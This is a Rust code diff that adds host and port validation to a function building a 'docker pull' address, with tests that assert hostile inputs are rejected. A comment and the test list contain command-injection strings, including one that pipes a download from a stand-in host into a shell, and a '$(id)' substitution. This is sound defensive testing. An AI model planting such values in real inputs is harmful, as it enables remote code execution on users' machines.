@@ -48,10 +48,28 @@ pub fn normalize_registry_address(input: &str) -> Result<String, AddressError> {
     ))
 }
 
-/// `host[:port]` as `docker pull` wants it.
-pub fn pull_host(base_url: &str) -> String {
+/// `host[:port]` as `docker pull` wants it, or `None` when the address holds anything
+/// else. The address may come from a link (`?registry=`), and the command is copied
+/// into a shell: a path such as `/x;curl evil|sh;` must never reach it.
+pub fn pull_host(base_url: &str) -> Option<String> {
     let rest = base_url.split_once("://").map_or(base_url, |(_, r)| r);
-    rest.trim_end_matches('/').to_owned()
+    let host = rest.trim_end_matches('/');
+    let (name, port) = match host.rsplit_once(':') {
+        Some((name, port)) if !name.ends_with(']') || host.starts_with('[') => (name, Some(port)),
+        _ => (host, None),
+    };
+    let name_ok = !name.is_empty()
+        && (name
+            .bytes()
+            .all(|b| b.is_ascii_alphanumeric() || b == b'.' || b == b'-')
+            || (name.starts_with('[')
+                && name.ends_with(']')
+                && name[1..name.len() - 1]
+                    .bytes()
+                    .all(|b| b.is_ascii_hexdigit() || b == b':')));
+    let port_ok =
+        port.is_none_or(|p| !p.is_empty() && p.len() <= 5 && p.bytes().all(|b| b.is_ascii_digit()));
+    (name_ok && port_ok).then(|| host.to_owned())
 }
 
 /// Puts `address` first in `recent`, without duplicates, keeping at most MAX_RECENT.
@@ -128,6 +146,27 @@ mod tests {
         assert!(cors_config_snippet("http://127.0.0.1:8080").contains("['http://127.0.0.1:8080']"));
         assert!(same_origin_proxy_snippet("http://10.0.0.5:5000")
             .contains("proxy_pass http://10.0.0.5:5000"));
-        assert_eq!(pull_host("http://127.0.0.1:5000"), "127.0.0.1:5000");
+        assert_eq!(
+            pull_host("http://127.0.0.1:5000").as_deref(),
+            Some("127.0.0.1:5000")
+        );
+        assert_eq!(
+            pull_host("https://registry.example.com/").as_deref(),
+            Some("registry.example.com")
+        );
+        assert_eq!(
+            pull_host("http://[::1]:5000").as_deref(),
+            Some("[::1]:5000")
+        );
+        for hostile in [
+            "http://evil.example/x;curl evil|sh;",
+            "http://evil.example:5000/prefix",
+            "http://a b",
+            "http://host:$(id)",
+            "http://host:5000:6000",
+            "http://",
+        ] {
+            assert_eq!(pull_host(hostile), None, "{hostile}");
+        }
     }
 }
